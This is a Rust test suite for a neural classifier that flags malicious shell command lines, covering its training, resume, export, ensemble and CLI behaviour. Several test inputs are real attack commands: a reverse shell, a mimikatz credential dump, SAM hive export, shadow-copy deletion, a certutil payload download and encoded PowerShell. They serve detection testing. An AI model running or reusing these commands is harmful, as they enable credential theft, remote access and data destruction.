//! The classifier end to end on the bundled sample (nl2bash + runner_images benign,
//! atomic_red_team malicious): training quality on flex, augmentation counting, resume, and
//! the CLI contract (classify, evaluate, export, and the numpy-only Python loader).

use crate::util::{
    globals, longtail, longtail_ok, python_loader_agrees, read_state, sample, straight_and_killed,
};
use longtail::classify::data::load_training_set;
use longtail::classify::{self, Classifier, ClassifierConfig, TrainRequest};
use std::path::{Path, PathBuf};
use std::time::Instant;

/// A model small enough to train in seconds on two cores.
fn tiny_config(epochs: usize) -> ClassifierConfig {
    let mut c = ClassifierConfig::default();
    c.model.embed_dim = 16;
    c.model.filters = 32;
    c.model.widths = vec![2, 3, 4];
    c.model.max_len = 128;
    c.optim.epochs = epochs;
    c.optim.lr = 1e-2;
    c.training.max_batch = 64;
    c
}

/// Train `config` on `train` alone (no augmentation, fresh start) into `out`.
fn train_plain(
    config: &ClassifierConfig,
    train: &[PathBuf],
    out: &Path,
    globals: &longtail::Globals,
) -> classify::ClassifierBundle {
    classify::train(
        &TrainRequest {
            config,
            train,
            augment: &[],
            init: None,
            out,
            resume: false,
        },
        globals,
    )
    .unwrap()
}

/// Write the first `n` rows of each sample file into one JSONL file.
fn subset(dir: &Path, files: &[(&str, usize)]) -> PathBuf {
    let mut out = String::new();
    for (f, n) in files {
        let text = std::fs::read_to_string(sample(f)).unwrap();
        for l in text.lines().take(*n) {
            out.push_str(l);
            out.push('\n');
        }
    }
    let path = dir.join("subset.jsonl");
    std::fs::write(&path, out).unwrap();
    path
}

#[test]
fn flex_classifier_learns_the_sample_quickly_and_scores_do_not_depend_on_the_batch() {
    let dir = tempfile::tempdir().unwrap();
    let train = vec![
        sample("nl2bash.jsonl"),
        sample("runner_images.jsonl"),
        sample("atomic_red_team.jsonl"),
        // `unknown` labels: skipped and counted, not trained on.
        sample("otrf_security_datasets.jsonl"),
    ];
    let cfg = tiny_config(4);
    let start = Instant::now();
    let bundle = train_plain(&cfg, &train, dir.path(), &globals());
    let secs = start.elapsed().as_secs_f64();
    let v = bundle.validation.clone().unwrap();
    let t = bundle.training.clone().unwrap();
    eprintln!(
        "trained {} lines in {secs:.1}s ({:.0} lines/s per epoch); validation ROC AUC {:?} on {} lines ({} malicious)",
        bundle.train_lines,
        t.lines_per_sec.iter().sum::<f64>() / t.lines_per_sec.len() as f64,
        v.roc_auc,
        v.lines,
        v.malicious
    );
    assert_eq!(bundle.data.skipped_labels.get("unknown"), Some(&300));
    assert!(bundle.data.malicious > 350 && bundle.data.benign > 3000);
    assert!(v.malicious >= 20, "validation needs malicious lines: {v:?}");
    assert!(v.roc_auc.unwrap() > 0.9, "validation AUC {:?}", v.roc_auc);
    assert!(secs < 120.0, "training took {secs:.0}s");
    for f in ["config.json", "model.safetensors", "threshold.json"] {
        assert!(dir.path().join(f).exists(), "{f} missing");
    }

    // Reload; a line scores the same alone as in a batch of mixed lengths (padding is masked).
    let clf = Classifier::load(dir.path(), &globals()).unwrap();
    let lines = [
        "ls",
        "top -c",
        "reg save HKLM\\sam %temp%\\sam",
        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "find . -name '*.py' -exec grep -l TODO {} +",
    ];
    crate::util::assert_batch_independent(&clf, &lines);
    let together = clf.score(&lines, 32_768, |_| {});
    assert!(
        together[2] > together[1],
        "reg save should outscore top -c: {together:?}"
    );
}

#[test]
fn augmentation_rows_count_as_benign_and_labeled_rows_win() {
    let dir = tempfile::tempdir().unwrap();
    let aug = dir.path().join("aug.jsonl");
    std::fs::write(
        &aug,
        concat!(
            "{\"cmd\": \"choco install -y git\", \"label\": \"malicious\"}\n",
            "{\"cmd\": \"dism /online /enable-feature /featurename:NetFx3\"}\n",
            "{\"cmd\": \"dism /online /enable-feature /featurename:NetFx3\"}\n",
            "{\"cmd\": \"reg save HKLM\\\\sam %temp%\\\\sam\", \"label\": \"benign\"}\n",
        ),
    )
    .unwrap();
    let (examples, summary) = load_training_set(
        &[sample("atomic_red_team.jsonl"), sample("nl2bash.jsonl")],
        &[aug],
    )
    .unwrap();
    assert_eq!(summary.augment, 2, "{summary:?}");
    assert_eq!(summary.augment_already_labeled, 1);
    assert!(summary.duplicates >= 1);
    let choco = examples
        .iter()
        .find(|e| e.cmd == "choco install -y git")
        .unwrap();
    assert!(choco.augment && !choco.malicious);
    // The labeled set's verdict stays.
    assert!(
        examples
            .iter()
            .find(|e| e.cmd == "reg save HKLM\\sam %temp%\\sam")
            .unwrap()
            .malicious
    );
}

/// `val_split = "source"`: every source (script, technique file) falls whole on one side, the
/// trained model's validation is those held-out sources, and its config and card say so.
#[test]
fn a_source_split_validates_on_unseen_sources_and_the_card_says_so() {
    let dir = tempfile::tempdir().unwrap();
    // nl2bash's sample is one source of 3,000 lines: left out, so both sides hold many groups.
    let train = vec![
        sample("runner_images.jsonl"),
        sample("atomic_red_team.jsonl"),
    ];
    let mut cfg = tiny_config(1);
    cfg.training.val_split = longtail::classify::fit::ValSplit::Source;
    cfg.training.val_fraction = 0.2;
    let (examples, _) = load_training_set(&train, &[]).unwrap();
    let (train_idx, val_idx) = cfg.training.split(&examples);
    let sources = |idx: &[usize]| -> std::collections::HashSet<String> {
        idx.iter()
            .map(|&i| {
                examples[i]
                    .source
                    .clone()
                    .expect("every sample line has a source")
            })
            .collect()
    };
    let (seen, held) = (sources(&train_idx), sources(&val_idx));
    assert!(seen.is_disjoint(&held), "{:?}", seen.intersection(&held));
    assert!(held.len() >= 20, "{} sources held out", held.len());
    let held_malicious = val_idx.iter().filter(|&&i| examples[i].malicious).count();
    assert!(held_malicious > 0 && held_malicious < val_idx.len());

    let model = dir.path().join("model");
    let bundle = train_plain(&cfg, &train, &model, &globals());
    let v = bundle.validation.unwrap();
    assert_eq!((v.lines, v.malicious), (val_idx.len(), held_malicious));
    let saved = std::fs::read_to_string(model.join("config.json")).unwrap();
    assert!(saved.contains(r#""val_split": "source""#), "{saved}");
    let out = dir.path().join("exported");
    longtail_ok(&[
        "export",
        "--model",
        model.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ]);
    let card = std::fs::read_to_string(out.join("README.md")).unwrap();
    assert!(
        card.contains("validation split (whole sources by a hash of the source, 20 %)"),
        "{card}"
    );
}

/// A kill mid-training loses at most the epoch in progress, `--resume` reaches the same
/// result as an uninterrupted run, and resuming with another config is refused.
#[test]
fn resume_after_sigkill_matches_an_uninterrupted_run() {
    let work = tempfile::tempdir().unwrap();
    let input = subset(
        work.path(),
        &[("nl2bash.jsonl", 900), ("atomic_red_team.jsonl", 250)],
    );
    let cfg = work.path().join("tiny.toml");
    std::fs::write(
        &cfg,
        "[model]\nembed_dim = 16\nfilters = 32\nwidths = [2, 3, 4]\nmax_len = 128\n\
         [optim]\nepochs = 3\nlr = 0.01\n[training]\nmax_batch = 16\n",
    )
    .unwrap();
    let train = |out: &Path, resume: bool| {
        let mut c = longtail();
        c.args(["--device", "flex", "-q", "train-classifier", "--train"])
            .arg(&input)
            .arg("--config")
            .arg(&cfg)
            .arg("--out")
            .arg(out);
        if resume {
            c.arg("--resume");
        }
        c
    };
    let (straight, killed) = straight_and_killed(work.path(), train);
    let other = train(&killed, true)
        .arg("--epochs")
        .arg("5")
        .output()
        .unwrap();
    assert_eq!(
        other.status.code(),
        Some(2),
        "resume with another config must be refused"
    );
    assert!(train(&killed, true).status().unwrap().success());

    let a = read_state(&straight).unwrap();
    let b = read_state(&killed).unwrap();
    assert_eq!(b["epochs_done"], 3);
    let losses = |s: &serde_json::Value| -> Vec<f64> {
        s["val_loss"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_f64().unwrap())
            .collect()
    };
    for (x, y) in losses(&a).iter().zip(losses(&b)) {
        assert!((x - y).abs() < 1e-4, "{:?} vs {:?}", losses(&a), losses(&b));
    }
    let threshold = |d: &Path| {
        let v: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(d.join("threshold.json")).unwrap())
                .unwrap();
        v["threshold"].as_f64().unwrap()
    };
    assert!((threshold(&straight) - threshold(&killed)).abs() < 1e-4);
}

#[test]
fn cli_train_classify_evaluate_export_and_the_python_loader_agree() {
    let dir = tempfile::tempdir().unwrap();
    let d = |p: &str| dir.path().join(p).display().to_string();
    let train = subset(
        dir.path(),
        &[("nl2bash.jsonl", 600), ("atomic_red_team.jsonl", 200)],
    );
    std::fs::write(
        d("tiny.toml"),
        "[model]\nembed_dim = 8\nfilters = 16\nwidths = [2, 3, 5]\nmax_len = 96\n\
         [optim]\nepochs = 2\nlr = 0.01\n",
    )
    .unwrap();
    let aug = sample("runner_images.jsonl").display().to_string();
    longtail_ok(&[
        "train-classifier",
        "--train",
        &train.display().to_string(),
        "--augment",
        &aug,
        "--augment-weight",
        "0.5",
        "--config",
        &d("tiny.toml"),
        "--out",
        &d("model"),
    ]);
    let cfg: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(d("model/config.json")).unwrap()).unwrap();
    assert_eq!(cfg["data"]["augment"], 600);
    assert_eq!(cfg["config"]["training"]["augment_weight"], 0.5);

    // classify: 100 lines of mixed sources, long ones included, as text on stdin.
    let mut lines: Vec<String> = Vec::new();
    for f in [
        "atomic_red_team.jsonl",
        "runner_images.jsonl",
        "nl2bash.jsonl",
    ] {
        let text = std::fs::read_to_string(sample(f)).unwrap();
        for l in text.lines().rev().take(34) {
            let v: serde_json::Value = serde_json::from_str(l).unwrap();
            let cmd = v["cmd"].as_str().unwrap().replace('\n', " ");
            if lines.len() < 100 && !cmd.trim().is_empty() {
                lines.push(cmd);
            }
        }
    }
    assert_eq!(lines.len(), 100);
    std::fs::write(d("lines.txt"), lines.join("\n") + "\n").unwrap();
    longtail_ok(&["export", "--model", &d("model"), "--out", &d("models/tiny")]);
    for f in [
        "model.safetensors",
        "config.json",
        "threshold.json",
        "README.md",
    ] {
        assert!(dir.path().join("models/tiny").join(f).exists(), "{f}");
    }
    let card = std::fs::read_to_string(d("models/tiny/README.md")).unwrap();
    assert!(
        card.contains("ROC AUC") && card.contains("runner_images.jsonl"),
        "{card}"
    );
    longtail_ok(&[
        "classify",
        "--model",
        &d("models/tiny"),
        &d("lines.txt"),
        "-o",
        &d("scores.jsonl"),
    ]);
    let rows: Vec<serde_json::Value> = std::fs::read_to_string(d("scores.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(rows.len(), 100);
    let threshold: f64 = serde_json::from_str::<serde_json::Value>(
        &std::fs::read_to_string(d("models/tiny/threshold.json")).unwrap(),
    )
    .unwrap()["threshold"]
        .as_f64()
        .unwrap();
    for (row, line) in rows.iter().zip(&lines) {
        assert_eq!(row["cmd"].as_str().unwrap(), line);
        let s = row["score"].as_f64().unwrap();
        assert!((0.0..=1.0).contains(&s));
        let want = if s >= threshold {
            "malicious"
        } else {
            "benign"
        };
        assert_eq!(row["label"], want);
    }
    // Parquet output and stdin give the same scores.
    let mut child = longtail()
        .args([
            "--device",
            "flex",
            "-q",
            "classify",
            "--model",
            &d("models/tiny"),
            "-",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    {
        use std::io::Write;
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(lines[..3].join("\n").as_bytes()).unwrap();
    }
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success());
    let piped: Vec<serde_json::Value> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(piped.len(), 3);
    assert!(
        (piped[2]["score"].as_f64().unwrap() - rows[2]["score"].as_f64().unwrap()).abs() < 1e-9
    );
    longtail_ok(&[
        "classify",
        "--model",
        &d("model"),
        &d("lines.txt"),
        "-o",
        &d("scores.parquet"),
    ]);
    assert!(dir.path().join("scores.parquet").exists());

    // evaluate: two models on one test set, with source and platform breakdowns. `evaluate`
    // runs it into `out` with `extra` arguments and reads its report.json.
    let evaluate = |out: &str, extra: &[&str]| -> serde_json::Value {
        let (runner, atomic, trained) = (
            sample("runner_images.jsonl").display().to_string(),
            sample("atomic_red_team.jsonl").display().to_string(),
            format!("trained={}", d("model")),
        );
        let mut args = vec![
            "evaluate", "--test", &runner, &atomic, "--model", &trained, "--out", out,
        ];
        args.extend_from_slice(extra);
        longtail_ok(&args);
        serde_json::from_str(&std::fs::read_to_string(format!("{out}/report.json")).unwrap())
            .unwrap()
    };
    let exported = format!("exported={}", d("models/tiny"));
    let report = evaluate(&d("eval"), &["--model", &exported]);
    let models = report["models"].as_array().unwrap();
    assert_eq!(models.len(), 2);
    assert_eq!(models[0]["metrics"]["count"], 1000);
    assert_eq!(
        models[0]["metrics"]["roc_auc"],
        models[1]["metrics"]["roc_auc"]
    );
    let columns: Vec<&str> = models[0]["groups"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| g["column"].as_str().unwrap())
        .collect();
    assert_eq!(columns, ["source", "platform"]);
    for f in ["report.md", "roc.svg", "hist-trained.svg"] {
        assert!(dir.path().join("eval").join(f).exists(), "{f}");
    }
    // Every TPR at FPR has an interval by default; `--tpr-ci-resamples 0` leaves them out.
    let tprs = |report: &serde_json::Value| -> Vec<bool> {
        report["models"][0]["metrics"]["tpr_at_fpr"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| a.get("ci").is_some())
            .collect()
    };
    assert_eq!(tprs(&report), [true, true, true]);
    let plain = evaluate(&d("eval-no-ci"), &["--tpr-ci-resamples", "0"]);
    assert_eq!(tprs(&plain), [false, false, false]);

    // The downstream contract: numpy + safetensors reproduce the scores to 1e-4.
    python_loader_agrees(
        &dir.path().join("models/tiny"),
        &dir.path().join("scores.jsonl"),
        100,
    );
}

/// BPE tokens end to end: the vocabulary is learnt and saved beside the weights, export copies
/// it, `classify` uses it, and the Python loader's own BPE reproduces the scores to 1e-4.
#[test]
fn bpe_tokenizer_is_trained_exported_and_reproduced_by_the_python_loader() {
    let dir = tempfile::tempdir().unwrap();
    let d = |p: &str| dir.path().join(p).display().to_string();
    let train = subset(
        dir.path(),
        &[
            ("nl2bash.jsonl", 500),
            ("runner_images.jsonl", 300),
            ("atomic_red_team.jsonl", 250),
        ],
    );
    std::fs::write(
        d("bpe.toml"),
        "[model]\ntokenizer = \"bpe\"\nvocab_size = 600\nembed_dim = 8\nfilters = 16\n\
         widths = [2, 3]\nmax_len = 48\n[optim]\nepochs = 1\nlr = 0.01\n",
    )
    .unwrap();
    longtail_ok(&[
        "train-classifier",
        "--train",
        &train.display().to_string(),
        "--config",
        &d("bpe.toml"),
        "--out",
        &d("model"),
    ]);
    let tokenizer = std::fs::read_to_string(d("model/tokenizer.json")).unwrap();
    assert!(tokenizer.contains("\"BPE\"") && tokenizer.contains("ByteLevel"));
    let cfg: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(d("model/config.json")).unwrap()).unwrap();
    assert_eq!(cfg["tokenizer"], "bpe");
    assert_eq!(cfg["config"]["model"]["vocab_size"], 600);

    longtail_ok(&["export", "--model", &d("model"), "--out", &d("models/bpe")]);
    assert!(dir.path().join("models/bpe/tokenizer.json").exists());
    // Without its tokenizer a BPE model refuses to load (exit 2, with a hint).
    std::fs::create_dir_all(d("broken")).unwrap();
    for f in ["config.json", "model.safetensors", "threshold.json"] {
        std::fs::copy(
            dir.path().join("models/bpe").join(f),
            dir.path().join("broken").join(f),
        )
        .unwrap();
    }
    let out = longtail()
        .args([
            "--device",
            "flex",
            "-q",
            "classify",
            "--model",
            &d("broken"),
            "-",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("tokenizer.json"));

    // Lines the vocabulary has and has not seen, long ones (clipped in tokens) and non-ASCII.
    let mut lines: Vec<String> = Vec::new();
    for f in [
        "atomic_red_team.jsonl",
        "runner_images.jsonl",
        "nl2bash.jsonl",
    ] {
        let text = std::fs::read_to_string(sample(f)).unwrap();
        for l in text.lines().rev().take(30) {
            let v: serde_json::Value = serde_json::from_str(l).unwrap();
            let cmd = v["cmd"].as_str().unwrap().replace('\n', " ");
            if !cmd.trim().is_empty() {
                lines.push(cmd);
            }
        }
    }
    lines.push("echo 'héllo wörld' ✓ | iconv -f utf-8 -t latin1".into());
    lines.push("x".into());
    std::fs::write(d("lines.txt"), lines.join("\n") + "\n").unwrap();
    longtail_ok(&[
        "classify",
        "--model",
        &d("models/bpe"),
        &d("lines.txt"),
        "-o",
        &d("scores.jsonl"),
    ]);
    python_loader_agrees(
        &dir.path().join("models/bpe"),
        &dir.path().join("scores.jsonl"),
        lines.len(),
    );
}

/// The shipped model (scripts/train_shipped_model.sh) loads, ranks well-known attack lines
/// above ordinary ones, and the numpy-only loader reproduces its scores to 1e-4.
#[test]
fn shipped_model_ranks_attacks_above_ordinary_lines_and_the_python_loader_agrees() {
    let model = crate::util::repo().join("models/cmdline-cnn");
    let clf = Classifier::load(&model, &globals()).unwrap();
    // Its card names configs/shipped.toml as the recipe: the weights must come from it.
    let recipe =
        ClassifierConfig::from_toml_file(&crate::util::repo().join("configs/shipped.toml"))
            .unwrap();
    assert_eq!(
        serde_json::to_value(&clf.bundle.config).unwrap(),
        serde_json::to_value(&recipe).unwrap(),
        "models/cmdline-cnn was not trained with configs/shipped.toml: rerun \
         scripts/train_shipped_model.sh"
    );
    assert_eq!(clf.members.len(), recipe.ensemble);
    let attacks = [
        "vssadmin.exe delete shadows /all /quiet",
        "reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save",
        "certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\\Users\\Public\\p.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    ];
    let ordinary = [
        "ls -la",
        "git status",
        "cd ~/projects && make test",
        "tar -xzf archive.tar.gz -C /opt",
        "python3 -m pip install --upgrade requests",
        "grep -rn TODO src/",
    ];
    let a = clf.score(&attacks, 32_768, |_| {});
    let o = clf.score(&ordinary, 32_768, |_| {});
    eprintln!("attacks {a:.4?}\nordinary {o:.4?}");
    // A small byte CNN trained on documentation and CI lines is no oracle (see its card):
    // it must rank attacks above ordinary lines on the whole, not every single pair.
    let pairs_won = a
        .iter()
        .flat_map(|x| o.iter().map(move |y| (x > y) as u32))
        .sum::<u32>() as f64
        / (a.len() * o.len()) as f64;
    let mean = |v: &[f64]| v.iter().sum::<f64>() / v.len() as f64;
    assert!(
        pairs_won >= 0.85,
        "pairwise AUC {pairs_won}: {a:?} vs {o:?}"
    );
    assert!(mean(&a) - mean(&o) > 0.3, "{a:?} vs {o:?}");
    // At the stored threshold (validation FPR 1e-3) no ordinary line is flagged.
    assert!(a.iter().any(|&s| clf.is_malicious(s)), "{a:?}");
    assert!(o.iter().all(|&s| !clf.is_malicious(s)), "{o:?}");

    // The downstream contract on the shipped files: 100 lines through the CLI and Python.
    let dir = tempfile::tempdir().unwrap();
    let mut lines: Vec<String> = attacks
        .iter()
        .chain(&ordinary)
        .map(|s| s.to_string())
        .collect();
    for f in [
        "atomic_red_team.jsonl",
        "runner_images.jsonl",
        "nl2bash.jsonl",
    ] {
        let text = std::fs::read_to_string(sample(f)).unwrap();
        for l in text.lines().take(30) {
            let v: serde_json::Value = serde_json::from_str(l).unwrap();
            let cmd = v["cmd"].as_str().unwrap().replace('\n', " ");
            if lines.len() < 100 && !cmd.trim().is_empty() {
                lines.push(cmd);
            }
        }
    }
    assert_eq!(lines.len(), 100);
    let text = dir.path().join("lines.txt");
    std::fs::write(&text, lines.join("\n") + "\n").unwrap();
    let scores = dir.path().join("scores.jsonl");
    longtail_ok(&[
        "classify",
        "--model",
        &model.display().to_string(),
        &text.display().to_string(),
        "-o",
        &scores.display().to_string(),
    ]);
    python_loader_agrees(&model, &scores, 100);
}

/// `longtail classify ... | head -1`: the reader goes away after one line; that is a normal
/// end (exit 0, no error), not a failure.
#[test]
fn a_closed_output_pipe_is_a_normal_end() {
    use std::io::BufRead;
    let dir = tempfile::tempdir().unwrap();
    // Far more output than a pipe buffers, so the writer must meet the closed pipe.
    let text = std::fs::read_to_string(sample("nl2bash.jsonl")).unwrap();
    let input = dir.path().join("many.jsonl");
    std::fs::write(&input, text.repeat(4)).unwrap();
    let mut child = longtail()
        .args(["--device", "flex", "-q", "classify", "--model"])
        .arg(crate::util::repo().join("models/cmdline-cnn"))
        .arg(&input)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut first)
        .unwrap();
    assert!(first.contains("\"score\""), "{first}");
    // The reader (and with it the pipe's read end) is dropped here, like `head -1` exiting.
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(!stderr.contains("error"), "{stderr}");
}

/// 550 labeled sample lines and `tiny.toml` (a one-epoch network of 8 filters with the given
/// extra `[model]` lines) in `dir`; returns the training file.
fn tiny_run(dir: &Path, model: &str) -> PathBuf {
    std::fs::write(
        dir.join("tiny.toml"),
        format!(
            "[model]\nembed_dim = 8\nfilters = 8\nmax_len = 64\n{model}[optim]\nepochs = 1\nlr = 0.01\n"
        ),
    )
    .unwrap();
    subset(
        dir,
        &[("nl2bash.jsonl", 400), ("atomic_red_team.jsonl", 150)],
    )
}

/// A seed ensemble is one model directory: K members trained on distinct seeds, scored as the
/// sigmoid of their mean logit by `classify`, exported whole, reproduced by the Python loader,
/// and refused with a clear error when a member is missing.
#[test]
fn seed_ensemble_trains_scores_exports_and_the_python_loader_agrees() {
    let dir = tempfile::tempdir().unwrap();
    let d = |p: &str| dir.path().join(p).display().to_string();
    let train = tiny_run(dir.path(), "widths = [2, 3]\n");
    let train_args = |out: &str, k: &str| {
        longtail_ok(&[
            "--seed",
            "5",
            "train-classifier",
            "--train",
            &train.display().to_string(),
            "--config",
            &d("tiny.toml"),
            "--ensemble",
            k,
            "--out",
            &d(out),
        ]);
    };
    train_args("single", "1");
    train_args("ens", "3");
    let bundle: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(d("ens/config.json")).unwrap()).unwrap();
    assert_eq!(bundle["config"]["ensemble"], 3);
    let seeds: Vec<u64> = bundle["members"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["seed"].as_u64().unwrap())
        .collect();
    assert_eq!(seeds.len(), 3);
    assert_eq!(
        seeds[0], 5,
        "member 0 keeps the seed: ensemble = 1 is the single network"
    );
    assert!(
        seeds[1] != seeds[2] && seeds[1] != 5 && seeds[2] != 5,
        "{seeds:?}"
    );
    for m in 0..3 {
        assert!(
            dir.path()
                .join(format!("ens/members/{m}/model.safetensors"))
                .exists()
        );
    }

    // Member 0 is the single network; the ensemble's score is the sigmoid of the mean logit.
    let g = globals();
    let single = Classifier::load(&dir.path().join("single"), &g).unwrap();
    let ens = Classifier::load(&dir.path().join("ens"), &g).unwrap();
    assert_eq!((single.members.len(), ens.members.len()), (1, 3));
    let lines = [
        "ls -la",
        "certutil -urlcache -split -f http://x/a.exe a.exe",
        "git status",
    ];
    let logit = |p: f64| (p / (1.0 - p)).ln();
    let ens_scores = ens.score(&lines, 4096, |_| {});
    let mut member_logits = vec![0.0; lines.len()];
    for m in 0..3 {
        let path = dir.path().join(format!("ens/members/{m}"));
        // A member folder is not a classifier folder; score it through a one-member copy.
        let solo = dir.path().join(format!("solo{m}"));
        std::fs::create_dir_all(&solo).unwrap();
        std::fs::copy(
            path.join("model.safetensors"),
            solo.join("model.safetensors"),
        )
        .unwrap();
        std::fs::copy(d("single/config.json"), solo.join("config.json")).unwrap();
        std::fs::copy(d("single/threshold.json"), solo.join("threshold.json")).unwrap();
        let solo = Classifier::load(&solo, &g).unwrap();
        for (acc, s) in member_logits
            .iter_mut()
            .zip(solo.score(&lines, 4096, |_| {}))
        {
            *acc += logit(s) / 3.0;
        }
        if m == 0 {
            assert_eq!(
                solo.score(&lines, 4096, |_| {}),
                single.score(&lines, 4096, |_| {})
            );
        }
    }
    for (e, z) in ens_scores.iter().zip(&member_logits) {
        assert!(
            (logit(*e) - z).abs() < 1e-4,
            "{ens_scores:?} vs mean logits {member_logits:?}"
        );
    }

    // CLI, export, Python loader.
    std::fs::write(d("lines.txt"), lines.join("\n") + "\n").unwrap();
    longtail_ok(&["export", "--model", &d("ens"), "--out", &d("models/ens")]);
    for m in 0..3 {
        assert!(
            dir.path()
                .join(format!("models/ens/members/{m}/model.safetensors"))
                .exists()
        );
    }
    let card = std::fs::read_to_string(d("models/ens/README.md")).unwrap();
    assert!(card.contains("seed ensemble of 3"), "{card}");
    longtail_ok(&[
        "classify",
        "--model",
        &d("models/ens"),
        &d("lines.txt"),
        "-o",
        &d("scores.jsonl"),
    ]);
    python_loader_agrees(
        &dir.path().join("models/ens"),
        &dir.path().join("scores.jsonl"),
        3,
    );

    // A missing member is an input error that names it, not a panic or a silent K-1 ensemble.
    std::fs::remove_file(d("models/ens/members/2/model.safetensors")).unwrap();
    let out = longtail()
        .args([
            "--device",
            "flex",
            "-q",
            "classify",
            "--model",
            &d("models/ens"),
            &d("lines.txt"),
        ])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("missing ensemble member 2 of 3"),
        "{stderr}"
    );
}

/// The optional architecture parts (max + mean pooling, a hidden layer) keep the contracts:
/// a line's score does not depend on its batch, and the Python loader reproduces it.
#[test]
fn max_mean_pooling_and_a_hidden_layer_keep_batch_independence_and_python_parity() {
    let dir = tempfile::tempdir().unwrap();
    let d = |p: &str| dir.path().join(p).display().to_string();
    let train = tiny_run(
        dir.path(),
        "widths = [2, 5]\npooling = \"max_mean\"\nhidden = 16\n",
    );
    longtail_ok(&[
        "train-classifier",
        "--train",
        &train.display().to_string(),
        "--config",
        &d("tiny.toml"),
        "--out",
        &d("model"),
    ]);
    let clf = Classifier::load(&dir.path().join("model"), &globals()).unwrap();
    let lines = [
        "ls",
        "tar -xzf archive.tar.gz -C /opt && ./configure --prefix=/usr/local && make -j4",
        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUA",
        "id",
    ];
    crate::util::assert_batch_independent(&clf, &lines);
    std::fs::write(d("lines.txt"), lines.join("\n") + "\n").unwrap();
    longtail_ok(&[
        "classify",
        "--model",
        &d("model"),
        &d("lines.txt"),
        "-o",
        &d("scores.jsonl"),
    ]);
    python_loader_agrees(
        &dir.path().join("model"),
        &dir.path().join("scores.jsonl"),
        4,
    );
}

/// The GPU code path (wgpu) of the classifier on the CPU through Mesa lavapipe: one small
/// training and scoring, and the same weights score alike on flex. CI sets
/// LONGTAIL_REQUIRE_WGPU=1 after installing mesa-vulkan-drivers, so a missing driver fails
/// there instead of skipping.
#[test]
fn wgpu_cpu_trains_and_scores_a_tiny_classifier() {
    if !crate::util::wgpu_cpu_available() {
        return;
    }
    // Short lines of one padded length keep the distinct kernel shapes few: wgpu autotunes
    // every new shape, which is slow on a CPU adapter.
    let dir = tempfile::tempdir().unwrap();
    let mut rows = String::new();
    let mut lines = Vec::new();
    for (file, label) in [
        ("nl2bash.jsonl", "benign"),
        ("atomic_red_team.jsonl", "malicious"),
    ] {
        let text = std::fs::read_to_string(sample(file)).unwrap();
        for l in text.lines() {
            let v: serde_json::Value = serde_json::from_str(l).unwrap();
            let cmd = v["cmd"].as_str().unwrap();
            if (17..=24).contains(&cmd.len())
                && lines.len() < if label == "benign" { 60 } else { 90 }
            {
                rows += &serde_json::json!({"cmd": cmd, "label": label}).to_string();
                rows.push('\n');
                lines.push(cmd.to_string());
            }
        }
    }
    let train = dir.path().join("train.jsonl");
    std::fs::write(&train, rows).unwrap();
    let mut config = ClassifierConfig::default();
    config.model.embed_dim = 8;
    config.model.filters = 8;
    config.model.widths = vec![3];
    config.model.max_len = 24;
    config.optim.epochs = 1;
    config.training.max_batch = 256;
    config.training.val_fraction = 0.0;
    let gpu = longtail::Globals::new(longtail::device::DeviceChoice::WgpuCpu, 7).unwrap();
    let out = dir.path().join("model");
    train_plain(&config, std::slice::from_ref(&train), &out, &gpu);
    let refs: Vec<&str> = lines.iter().take(20).map(String::as_str).collect();
    let on_gpu = Classifier::load(&out, &gpu)
        .unwrap()
        .score(&refs, 8192, |_| {});
    let on_flex = Classifier::load(&out, &globals())
        .unwrap()
        .score(&refs, 8192, |_| {});
    for (a, b) in on_gpu.iter().zip(&on_flex) {
        assert!(
            a.is_finite() && (a - b).abs() < 1e-4,
            "wgpu {a} vs flex {b}"
        );
    }
}
